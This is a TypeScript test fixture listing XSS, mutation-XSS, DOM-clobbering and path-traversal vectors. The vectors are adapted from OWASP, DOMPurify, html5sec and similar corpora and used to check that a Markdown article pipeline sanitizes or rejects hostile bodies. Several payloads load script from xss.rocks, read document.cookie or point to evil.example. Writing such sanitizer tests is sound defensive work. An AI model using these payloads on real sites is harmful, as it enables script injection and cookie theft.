// Attack vectors for article bodies, written as data with the public corpus each one comes from. They are adapted,
// not copied: each is the idea of a published vector, shaped as Markdown or inline HTML an importer could hand us.
//
// Corpora:
//   OWASP      OWASP XSS Filter Evasion Cheat Sheet (cheatsheetseries.owasp.org)
//   DOMPurify  DOMPurify's test fixtures, test/fixtures/expect.mjs (github.com/cure53/DOMPurify)
//   html5sec   HTML5 Security Cheatsheet (html5sec.org, github.com/cure53/H5SC)
//   mXSS       SonarSource "mXSS cheat sheet" (sonarsource.github.io/mxss-cheatsheet) and the bypasses it lists
//   hast       hast-util-sanitize's tests, test.js (github.com/syntax-tree/hast-util-sanitize)
//   Markdown   CommonMark spec edge cases, markdown-it and micromark security notes, and our own Markdown shapes

/** One hostile body. */
export interface MarkdownVector {
  /** Which corpus it comes from (see the list above). */
  readonly corpus: 'OWASP' | 'DOMPurify' | 'html5sec' | 'mXSS' | 'hast' | 'Markdown';
  /** The entry it is taken from, so it can be looked up. */
  readonly origin: string;
  /** The Markdown, with inline HTML, as an article body. */
  readonly markdown: string;
  /** Text inside an element that must be removed with its contents. */
  readonly hidden?: readonly string[];
  /** The pipeline refuses the file (image and link path rules) instead of rendering it. */
  readonly rejected?: true;
  /**
   * The vector opens an element it never closes (script, select, iframe, applet, plaintext, style), which takes the
   * rest of the body into it, so the text after the vector goes with the element. Text before it always stays.
   */
  readonly swallowsRest?: true;
}

const b64 = 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==';

/** Every body vector; `rejected` ones stop the build, the others must render safely. */
export const markdownVectors: readonly MarkdownVector[] = [
  // OWASP XSS Filter Evasion Cheat Sheet.
  {
    corpus: 'OWASP',
    origin: 'Basic XSS test without filter evasion',
    markdown: '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>',
  },
  {
    corpus: 'OWASP',
    origin: 'XSS locator (polyglot)',
    markdown:
      "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  },
  {
    corpus: 'OWASP',
    origin: 'Malformed A tags',
    markdown: '\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>',
  },
  {
    corpus: 'OWASP',
    origin: 'Malformed A tags (unescaped)',
    markdown: '<a onmouseover=alert(document.cookie)>xxs link</a>',
  },
  {
    corpus: 'OWASP',
    origin: 'Malformed IMG tags',
    markdown: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    hidden: ['alert("XSS")'],
  },
  {
    corpus: 'OWASP',
    origin: 'fromCharCode',
    markdown: '<a href="javascript:alert(String.fromCharCode(88,83,83))">Click</a>',
  },
  {
    corpus: 'OWASP',
    origin: 'Default SRC tag with onerror',
    markdown: '<IMG SRC=# onmouseover="alert(\'xxs\')">',
    rejected: true,
  },
  {
    corpus: 'OWASP',
    origin: 'Default SRC tag by leaving it empty',
    markdown: '<IMG SRC= onmouseover="alert(\'xxs\')">',
  },
  {
    corpus: 'OWASP',
    origin: 'Default SRC tag by leaving it out entirely',
    markdown: '<IMG onmouseover="alert(\'xxs\')">',
  },
  {
    corpus: 'OWASP',
    origin: 'On error alert',
    markdown: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    rejected: true,
  },
  {
    corpus: 'OWASP',
    origin: 'IMG onerror and JavaScript alert encode',
    markdown:
      '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  },
  {
    corpus: 'OWASP',
    origin: 'Decimal HTML character references (link)',
    markdown:
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>',
  },
  {
    corpus: 'OWASP',
    origin: 'Hexadecimal HTML character references without trailing semicolons',
    markdown:
      '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>',
  },
  { corpus: 'OWASP', origin: 'Embedded tab', markdown: '<a href="jav\tascript:alert(\'XSS\');">x</a>' },
  { corpus: 'OWASP', origin: 'Embedded encoded tab', markdown: '<a href="jav&#x09;ascript:alert(\'XSS\');">x</a>' },
  {
    corpus: 'OWASP',
    origin: 'Embedded newline to break up XSS',
    markdown: '<a href="jav&#x0A;ascript:alert(\'XSS\');">x</a>',
  },
  {
    corpus: 'OWASP',
    origin: 'Embedded carriage return to break up XSS',
    markdown: '<a href="jav&#x0D;ascript:alert(\'XSS\');">x</a>',
  },
  {
    corpus: 'OWASP',
    origin: 'Spaces and meta chars before the JavaScript',
    markdown: '<a href=" &#14;  javascript:alert(\'XSS\');">x</a>',
  },
  {
    corpus: 'OWASP',
    origin: 'Non-alpha-non-digit XSS',
    markdown: '<SCRIPT/XSS SRC="https://xss.rocks/xss.js"></SCRIPT>',
  },
  {
    corpus: 'OWASP',
    origin: 'Non-alpha-non-digit, BODY onload',
    markdown: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>text',
  },
  {
    corpus: 'OWASP',
    origin: 'Extraneous open brackets',
    markdown: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    hidden: ['alert("XSS")'],
  },
  {
    corpus: 'OWASP',
    origin: 'No closing script tags',
    markdown: '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
    swallowsRest: true,
  },
  {
    corpus: 'OWASP',
    origin: 'Protocol resolution in script tags',
    markdown: '<SCRIPT SRC=//xss.rocks/.j>',
    swallowsRest: true,
  },
  {
    corpus: 'OWASP',
    origin: 'Half open HTML/JavaScript XSS vector',
    markdown: '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  },
  {
    corpus: 'OWASP',
    origin: 'Escaping JavaScript escapes',
    markdown: '<div>\n<SCRIPT>var a="\\\\";alert(\'XSS\');//";</SCRIPT>\n</div>',
    hidden: ["alert('XSS')"],
  },
  {
    corpus: 'OWASP',
    origin: 'End title tag',
    markdown: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    hidden: ['alert("XSS")'],
  },
  { corpus: 'OWASP', origin: 'INPUT image', markdown: '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">' },
  { corpus: 'OWASP', origin: 'BODY image', markdown: '<BODY BACKGROUND="javascript:alert(\'XSS\')">text' },
  { corpus: 'OWASP', origin: 'IMG Dynsrc', markdown: '<IMG DYNSRC="javascript:alert(\'XSS\')">' },
  { corpus: 'OWASP', origin: 'IMG lowsrc', markdown: '<IMG LOWSRC="javascript:alert(\'XSS\')">' },
  {
    corpus: 'OWASP',
    origin: 'List-style-image',
    markdown: '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
    hidden: ['list-style-image'],
  },
  { corpus: 'OWASP', origin: 'SVG object tag', markdown: "<svg/onload=alert('XSS')>" },
  { corpus: 'OWASP', origin: 'BODY tag', markdown: "<BODY ONLOAD=alert('XSS')>text" },
  { corpus: 'OWASP', origin: 'BGSOUND', markdown: '<BGSOUND SRC="javascript:alert(\'XSS\');">' },
  { corpus: 'OWASP', origin: '& JavaScript includes', markdown: '<BR SIZE="&{alert(\'XSS\')}">' },
  { corpus: 'OWASP', origin: 'STYLE sheet', markdown: '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">' },
  {
    corpus: 'OWASP',
    origin: 'Remote style sheet part 3',
    markdown: '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
  },
  {
    corpus: 'OWASP',
    origin: 'IMG STYLE with expression',
    markdown: '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  },
  {
    corpus: 'OWASP',
    origin: 'STYLE tag using background-image',
    markdown: '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
    hidden: ['background-image'],
  },
  {
    corpus: 'OWASP',
    origin: 'STYLE tag using background',
    markdown: '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
    hidden: ['BODY{background'],
  },
  {
    corpus: 'OWASP',
    origin: 'Anonymous HTML with STYLE attribute',
    markdown: '<XSS STYLE="xss:expression(alert(\'XSS\'))">',
  },
  {
    corpus: 'OWASP',
    origin: 'META',
    markdown: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  },
  {
    corpus: 'OWASP',
    origin: 'META using data',
    markdown: `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,${b64}">`,
  },
  { corpus: 'OWASP', origin: 'IFRAME', markdown: '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>' },
  {
    corpus: 'OWASP',
    origin: 'IFRAME event based',
    markdown: '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  },
  { corpus: 'OWASP', origin: 'FRAME', markdown: '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>' },
  {
    corpus: 'OWASP',
    origin: 'TABLE background',
    markdown: '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TR><TD>cell</TD></TR></TABLE>',
  },
  {
    corpus: 'OWASP',
    origin: 'TD background',
    markdown: '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">cell</TD></TABLE>',
  },
  {
    corpus: 'OWASP',
    origin: 'DIV background-image',
    markdown: '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">x</DIV>',
  },
  { corpus: 'OWASP', origin: 'DIV expression', markdown: '<DIV STYLE="width: expression(alert(\'XSS\'));">x</DIV>' },
  { corpus: 'OWASP', origin: 'BASE tag', markdown: '<BASE HREF="javascript:alert(\'XSS\');//">' },
  {
    corpus: 'OWASP',
    origin: 'OBJECT tag',
    markdown: '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  },
  {
    corpus: 'OWASP',
    origin: 'EMBED SVG which contains XSS vector',
    markdown: `<EMBED SRC="data:image/svg+xml;base64,${b64}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  },
  {
    corpus: 'OWASP',
    origin: 'XML data island with CDATA obfuscation',
    markdown:
      '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
  },
  {
    corpus: 'OWASP',
    origin: 'Downlevel-hidden block',
    markdown: "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  },
  {
    corpus: 'OWASP',
    origin: 'Assuming you can only fit in a few characters and it filters against .js',
    markdown: '<SCRIPT SRC="http://xss.rocks/xss.jpg"></SCRIPT>',
  },
  {
    corpus: 'OWASP',
    origin: 'URL string evasion (javascript: in a link with entities and case)',
    markdown: '<A HREF="javascript:document.location=\'http://www.google.com/\'">XSS</A>',
  },

  // DOMPurify test fixtures.
  {
    corpus: 'DOMPurify',
    origin: "Don't remove ARIA attributes if not prohibited",
    markdown: '<div aria-labelledby="msg--title" onclick="alert(1)">x</div>',
  },
  {
    corpus: 'DOMPurify',
    origin: 'safe usage of URI-like attribute values',
    markdown: '<b href="javascript:alert(1)" title="javascript:alert(2)">x</b>',
  },
  {
    corpus: 'DOMPurify',
    origin: 'src Attributes for IMG, AUDIO, VIDEO and also SOURCE',
    markdown:
      '<audio src="javascript:alert(1)"><source src="javascript:alert(2)"></audio><video src="javascript:alert(3)" poster="javascript:alert(4)"></video>',
  },
  { corpus: 'DOMPurify', origin: 'DOM clobbering: getElementById', markdown: '<img src="x" name="getElementById">' },
  {
    corpus: 'DOMPurify',
    origin: 'DOM clobbering: location',
    markdown: '<a href="https://example.org/" id="location">x</a>',
  },
  { corpus: 'DOMPurify', origin: 'DOM clobbering: attributes', markdown: '<form><input name="attributes"></form>' },
  {
    corpus: 'DOMPurify',
    origin: 'DOM clobbering: cookie',
    markdown: '<img name="cookie" src="https://example.org/x.png">',
  },
  {
    corpus: 'DOMPurify',
    origin: 'DOM clobbering: body via form',
    markdown: '<form name="body"><img id="appendChild"></form>',
  },
  {
    corpus: 'DOMPurify',
    origin: 'XSS via HTML entities in href',
    markdown: '<a href="&#x6a;avascript&#x3a;alert(1)">x</a>',
  },
  {
    corpus: 'DOMPurify',
    origin: 'Image with data URI src (svg)',
    markdown: `<img src="data:image/svg+xml;base64,${b64}">`,
    rejected: true,
  },
  { corpus: 'DOMPurify', origin: 'Anchor with data: href', markdown: `<a href="data:text/html;base64,${b64}">x</a>` },
  { corpus: 'DOMPurify', origin: 'XSS inside noscript', markdown: '<noscript><img src=x onerror=alert(1)></noscript>' },
  { corpus: 'DOMPurify', origin: 'XSS inside noembed', markdown: '<noembed><img src=x onerror=alert(1)></noembed>' },
  { corpus: 'DOMPurify', origin: 'XSS inside noframes', markdown: '<noframes><img src=x onerror=alert(1)></noframes>' },
  {
    corpus: 'DOMPurify',
    origin: 'XSS inside iframe content',
    markdown: '<iframe><img src=x onerror=alert(1)></iframe>',
  },
  {
    corpus: 'DOMPurify',
    origin: 'XSS inside textarea content',
    markdown: '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  },
  {
    corpus: 'DOMPurify',
    origin: 'template element with content',
    markdown: '<template><script>alert(1)</script><img src=x onerror=alert(2)></template>',
    hidden: ['alert(1)'],
  },
  {
    corpus: 'DOMPurify',
    origin: 'SVG use with data: href',
    markdown: `<svg><use href="data:image/svg+xml;base64,${b64}#x"></use></svg>`,
  },
  {
    corpus: 'DOMPurify',
    origin: 'SVG animate values',
    markdown: '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  },
  {
    corpus: 'DOMPurify',
    origin: 'SVG set to javascript:',
    markdown: '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text>y</text></a></svg>',
    hidden: ['y'],
  },
  {
    corpus: 'DOMPurify',
    origin: 'MathML href',
    markdown: '<math href="javascript:alert(1)">CLICK</math>',
    hidden: ['CLICK'],
  },
  {
    corpus: 'DOMPurify',
    origin: 'style with @import',
    markdown: '<style>@import url(https://evil.example/x.css);</style>',
    hidden: ['@import'],
  },
  { corpus: 'DOMPurify', origin: 'Attribute with backtick quoting', markdown: '<img src=`x` onerror=`alert(1)`>' },
  {
    corpus: 'DOMPurify',
    origin: 'Unknown protocol in href',
    markdown: '<a href="livescript:alert(1)">x</a><a href="mocha:alert(2)">y</a>',
  },
  { corpus: 'DOMPurify', origin: 'vbscript: in href', markdown: '<a href="vbscript:msgbox(1)">x</a>' },
  {
    corpus: 'DOMPurify',
    origin: 'formaction on button',
    markdown: '<button formaction="javascript:alert(1)">go</button>',
    hidden: ['go'],
  },
  {
    corpus: 'DOMPurify',
    origin: 'isindex (obsolete) action',
    markdown: '<isindex action="javascript:alert(1)" type=submit value=click>',
  },
  {
    corpus: 'DOMPurify',
    origin: 'xlink:href on image in svg',
    markdown: '<svg><image xlink:href="javascript:alert(1)"></image></svg>',
  },
  {
    corpus: 'DOMPurify',
    origin: 'Comment breakout into attribute',
    markdown: '<div>\n<!--<img src="--><img src=x onerror=alert(1)//">\n</div>',
  },

  // html5sec.
  {
    corpus: 'html5sec',
    origin: '#1 form + button formaction',
    markdown: '<form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>',
    hidden: ['X'],
  },
  { corpus: 'html5sec', origin: '#2 autofocus onfocus', markdown: '<input onfocus=write(1) autofocus>' },
  {
    corpus: 'html5sec',
    origin: '#3 select autofocus onfocus',
    markdown: '<select onfocus=write(1) autofocus>',
    swallowsRest: true,
  },
  {
    corpus: 'html5sec',
    origin: '#4 textarea autofocus onfocus',
    markdown: '<textarea onfocus=write(1) autofocus></textarea>',
  },
  { corpus: 'html5sec', origin: '#5 keygen autofocus onfocus', markdown: '<keygen onfocus=write(1) autofocus>' },
  { corpus: 'html5sec', origin: '#7 video source onerror', markdown: '<video><source onerror="alert(1)">' },
  { corpus: 'html5sec', origin: '#8 video poster', markdown: '<video poster=javascript:alert(1)//></video>' },
  { corpus: 'html5sec', origin: '#9 body onscroll', markdown: '<body onscroll=alert(1)><br><br><br><input autofocus>' },
  { corpus: 'html5sec', origin: '#11 frameset onload', markdown: '<frameset onload=alert(1)>' },
  { corpus: 'html5sec', origin: '#12 table background', markdown: '<table background="javascript:alert(1)"></table>' },
  {
    corpus: 'html5sec',
    origin: '#13 event handler in a comment-looking attribute',
    markdown: '<!--<img src="--><img src=x onerror=alert(1)//">',
  },
  { corpus: 'html5sec', origin: '#15 CDATA in HTML', markdown: '<![><img src="]><img src=x onerror=alert(1)//">' },
  {
    corpus: 'html5sec',
    origin: '#17 style with unicode escapes',
    markdown: '<style><img src="</style><img src=x onerror=alert(1)//">',
  },
  {
    corpus: 'html5sec',
    origin: '#18 li with style list-style',
    markdown: '<li style=list-style:url() onerror=alert(1)></li>',
  },
  {
    corpus: 'html5sec',
    origin: '#21 head with meta refresh inside body',
    markdown: '<head><base href="javascript://"/></head><body><a href="/. /,alert(1)//#">XXX</a></body>',
  },
  {
    corpus: 'html5sec',
    origin: '#23 svg in a div with onload',
    markdown: '<div>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n</div>',
    hidden: ['alert(1)'],
  },
  {
    corpus: 'html5sec',
    origin: '#28 iframe srcdoc',
    markdown: '<iframe srcdoc="&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;" />',
    swallowsRest: true,
  },
  {
    corpus: 'html5sec',
    origin: '#32 object with param',
    markdown: '<object allowscriptaccess="always" data="x"><param name="x" value="y"></object>',
  },
  {
    corpus: 'html5sec',
    origin: '#41 a with xlink:href in svg',
    markdown:
      '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a><circle r="40"></circle></a><a xlink:href="javascript:alert(1)"><rect width="100" height="100"/></a></svg>',
  },
  {
    corpus: 'html5sec',
    origin: '#44 math with xlink:href',
    markdown: '<math><a xlink:href="//evil.example/">click</a></math>',
    hidden: ['click'],
  },
  {
    corpus: 'html5sec',
    origin: '#50 details open ontoggle (modern variant)',
    markdown: '<details open ontoggle="alert(1)">',
  },
  { corpus: 'html5sec', origin: '#61 marquee onstart', markdown: '<marquee onstart="alert(1)">x</marquee>' },
  { corpus: 'html5sec', origin: '#65 embed src javascript', markdown: '<embed src="javascript:alert(1)">' },
  {
    corpus: 'html5sec',
    origin: '#73 applet code',
    markdown: '<applet code="javascript:confirm(document.cookie);">',
    swallowsRest: true,
  },
  {
    corpus: 'html5sec',
    origin: '#91 a ping',
    markdown: '<a href="https://example.org/" ping="https://evil.example/track">x</a>',
  },
  {
    corpus: 'html5sec',
    origin: '#96 xmp with img',
    markdown: '<xmp><img src=x onerror=alert(1)></xmp>',
    hidden: ['onerror'],
  },
  {
    corpus: 'html5sec',
    origin: '#103 plaintext',
    markdown: '<plaintext><img src=x onerror=alert(1)>',
    swallowsRest: true,
  },
  {
    corpus: 'html5sec',
    origin: '#117 a with formaction-like attributes',
    markdown: '<a href="https://example.org/" target="_blank" rel="opener">x</a>',
  },

  // SonarSource mXSS cheat sheet and the bypasses it documents.
  {
    corpus: 'mXSS',
    origin: 'noscript parsing differential (DOMPurify 2.0.0 bypass)',
    markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  },
  {
    corpus: 'mXSS',
    origin: 'svg + p + style namespace confusion',
    markdown: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  },
  {
    corpus: 'mXSS',
    origin: 'math mtext table mglyph style (DOMPurify 2.0.17 bypass)',
    markdown:
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    swallowsRest: true,
  },
  {
    corpus: 'mXSS',
    origin: 'form in form (nested form bypass)',
    markdown: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    swallowsRest: true,
  },
  {
    corpus: 'mXSS',
    origin: 'annotation-xml HTML integration point',
    markdown:
      '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  },
  {
    corpus: 'mXSS',
    origin: 'svg foreignObject',
    markdown: '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  },
  {
    corpus: 'mXSS',
    origin: 'svg desc HTML integration point',
    markdown: '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
  },
  {
    corpus: 'mXSS',
    origin: 'select with style',
    markdown: '<select><style><img src=x onerror=alert(1)></style></select>',
  },
  {
    corpus: 'mXSS',
    origin: 'textarea end tag in attribute',
    markdown: '<textarea title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  },
  {
    corpus: 'mXSS',
    origin: 'title end tag in attribute',
    markdown: '<title><img title="</title><img src onerror=alert(1)>"></title>',
  },
  {
    corpus: 'mXSS',
    origin: 'template in table (foster parenting)',
    markdown: '<table><template><img src=x onerror=alert(1)></template></table>',
  },
  {
    corpus: 'mXSS',
    origin: 'comment in svg (CDATA differential)',
    markdown: '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  },
  {
    corpus: 'mXSS',
    origin: 'style in mglyph inside svg',
    markdown: '<svg><mglyph><style><img src=x onerror=alert(1)>',
  },
  {
    corpus: 'mXSS',
    origin: 'noembed attribute breakout',
    markdown: '<noembed><a title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  },
  {
    corpus: 'mXSS',
    origin: 'xmp attribute breakout',
    markdown: '<xmp><a title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  },
  {
    corpus: 'mXSS',
    origin: 'iframe attribute breakout',
    markdown: '<iframe><a title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  },

  // hast-util-sanitize tests.
  { corpus: 'hast', origin: 'should ignore `javascript:` in href', markdown: '<a href="javascript:alert(1)">x</a>' },
  {
    corpus: 'hast',
    origin: 'should ignore `javascript:` with uppercase',
    markdown: '<a href="JAVASCRIPT:alert(1)">x</a>',
  },
  {
    corpus: 'hast',
    origin: 'should ignore `javascript:` with whitespace',
    markdown: '<a href=" javascript:alert(1)">x</a>',
  },
  {
    corpus: 'hast',
    origin: 'should support `#` fragments and relative URLs',
    markdown: '<a href="#top">top</a> <a href="?a=b">q</a>',
  },
  {
    corpus: 'hast',
    origin: 'should drop unknown protocols',
    markdown: '<a href="ftp://example.org/">ftp</a> <a href="tel:123">tel</a>',
  },
  { corpus: 'hast', origin: 'should clobber `id`', markdown: '<h1 id="foo">x</h1><a name="bar">y</a>' },
  { corpus: 'hast', origin: 'should clobber aria-describedby', markdown: '<p aria-describedby="foo bar">x</p>' },
  { corpus: 'hast', origin: 'should drop `style`', markdown: '<p style="color:red">x</p>' },
  {
    corpus: 'hast',
    origin: 'should drop `on*` handlers',
    markdown: '<p onclick="alert(1)" ondblclick="alert(2)">x</p>',
  },
  {
    corpus: 'hast',
    origin: 'should drop `script` (content too, with strip)',
    markdown: '<p>a</p><script>alert(1)</script><p>b</p>',
    hidden: ['alert(1)'],
  },
  {
    corpus: 'hast',
    origin: 'should drop `input` unless a disabled checkbox',
    markdown: '<input type="text" value="x"> <input type="checkbox" onclick="alert(1)">',
  },
  {
    corpus: 'hast',
    origin: 'should drop `data*` attributes',
    markdown: '<div data-foo="bar" data-html="<img src=x onerror=alert(1)>">x</div>',
  },
  {
    corpus: 'hast',
    origin: 'should drop `className` outside allowed values',
    markdown: '<div class="pagefind-ignore evil">x</div>',
  },
  {
    corpus: 'hast',
    origin: 'should drop doctype and comments',
    markdown: '<!doctype html><!-- secret comment --><p>x</p>',
  },
  {
    corpus: 'hast',
    origin: 'should drop unknown elements but keep allowed children',
    markdown: '<custom-element onclick="alert(1)"><b>bold</b></custom-element>',
  },
  {
    corpus: 'hast',
    origin: 'should sanitize `cite` URLs',
    markdown:
      '<blockquote cite="javascript:alert(1)">q</blockquote><q cite="javascript:alert(2)">q</q><del cite="javascript:alert(3)">d</del>',
  },
  {
    corpus: 'hast',
    origin: 'should sanitize `longDesc` URLs',
    markdown: '<img src="https://example.org/x.png" longdesc="javascript:alert(1)">',
  },

  // Markdown syntax: links, images, autolinks, reference definitions, entities and escapes.
  { corpus: 'Markdown', origin: 'javascript: inline link', markdown: '[x](javascript:alert(1))' },
  { corpus: 'Markdown', origin: 'javascript: with escaped parenthesis', markdown: '[x](javascript:alert\\(1\\))' },
  { corpus: 'Markdown', origin: 'javascript: in angle-bracket destination', markdown: '[x](<javascript:alert(1)>)' },
  { corpus: 'Markdown', origin: 'entity-encoded scheme', markdown: '[x](&#x6A;avascript&#x3A;alert(1))' },
  { corpus: 'Markdown', origin: 'backslash-escaped colon', markdown: '[x](javascript\\:alert(1))' },
  { corpus: 'Markdown', origin: 'data: link', markdown: `[x](data:text/html;base64,${b64})` },
  { corpus: 'Markdown', origin: 'javascript: autolink', markdown: '<javascript:alert(1)>' },
  { corpus: 'Markdown', origin: 'VBSCRIPT: autolink, upper case', markdown: '<VBSCRIPT:msgbox(1)>' },
  { corpus: 'Markdown', origin: 'javascript: reference definition', markdown: '[x][a]\n\n[a]: javascript:alert(1)' },
  {
    corpus: 'Markdown',
    origin: 'reference definition with quote-breakout title',
    markdown: '[x][a]\n\n[a]: https://example.org/ "t\\" onmouseover=\\"alert(1)"',
  },
  {
    corpus: 'Markdown',
    origin: 'link title attribute breakout',
    markdown: '[x](https://example.org/ "a\\" onclick=\\"alert(1)")',
  },
  {
    corpus: 'Markdown',
    origin: 'image alt attribute breakout',
    markdown: '![a" onerror="alert(1)](https://example.org/x.png)',
  },
  { corpus: 'Markdown', origin: 'quote in URL', markdown: '[x](https://example.org/"onmouseover="alert(1))' },
  { corpus: 'Markdown', origin: 'javascript: image', markdown: '![x](javascript:alert(1))', rejected: true },
  {
    corpus: 'Markdown',
    origin: 'javascript: reference image',
    markdown: '![x][a]\n\n[a]: javascript:alert(1)',
    rejected: true,
  },
  {
    corpus: 'Markdown',
    origin: 'image path leaving the content folder',
    markdown: '![x](../../../../../../etc/passwd.png)',
    rejected: true,
  },
  {
    corpus: 'Markdown',
    origin: 'percent-encoded traversal in an image',
    markdown: '![x](..%2F..%2F..%2F..%2F..%2Fsecret.png)',
    rejected: true,
  },
  {
    corpus: 'Markdown',
    origin: 'link path leaving the content folder',
    markdown: '[x](../../../../../../etc/passwd)',
    rejected: true,
  },
  {
    corpus: 'Markdown',
    origin: 'backslash traversal in a link',
    markdown: '<a href="..\\..\\..\\..\\..\\secret">x</a>',
    rejected: true,
  },
  {
    corpus: 'Markdown',
    origin: 'footnote id clobbering',
    markdown: 'Text[^location]\n\n[^location]: <a id="cookie">note</a>',
  },
  { corpus: 'Markdown', origin: 'heading that names a global', markdown: '# alert\n\n## __proto__\n\n### constructor' },
  {
    corpus: 'Markdown',
    origin: 'HTML block with markdown inside an attribute',
    markdown: '<div title="**x**" onclick="alert(1)">\n\n*y*\n\n</div>',
  },
  {
    corpus: 'Markdown',
    origin: 'table cell with raw HTML',
    markdown: '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(2)</script> |',
    hidden: ['alert(2)'],
  },
  {
    corpus: 'Markdown',
    origin: 'task list with injected input',
    markdown: '- [ ] <input type="text" onfocus="alert(1)" autofocus>\n- [x] done',
  },
  {
    corpus: 'Markdown',
    origin: 'code span keeps markup as text',
    markdown: 'Use `<script>alert(1)</script>` carefully.',
  },
  {
    corpus: 'Markdown',
    origin: 'fenced code with a closing script',
    markdown: '```html\n</code></pre><script>alert(1)</script>\n```',
  },
  {
    corpus: 'Markdown',
    origin: 'GFM literal autolink with javascript',
    markdown: 'see www.example.org/javascript:alert(1) and javascript:alert(2)',
  },
];

/** Harmless text written before and after body vector `index` in a test article. */
export function textAround(index: number): { readonly before: string; readonly after: string } {
  return { before: `The text before vector ${index} starts here.`, after: `The text after vector ${index} ends here.` };
}

/**
 * An article body for vector `index`: a harmless paragraph, the vector, another harmless paragraph. Whatever is
 * removed from the vector, the paragraph before it must still be shown, and the one after it too unless the vector
 * `swallowsRest`.
 */
export function bodyWithVector(vector: MarkdownVector, index: number): string {
  const { before, after } = textAround(index);
  return `${before}\n\n${vector.markdown}\n\n${after}\n`;
}
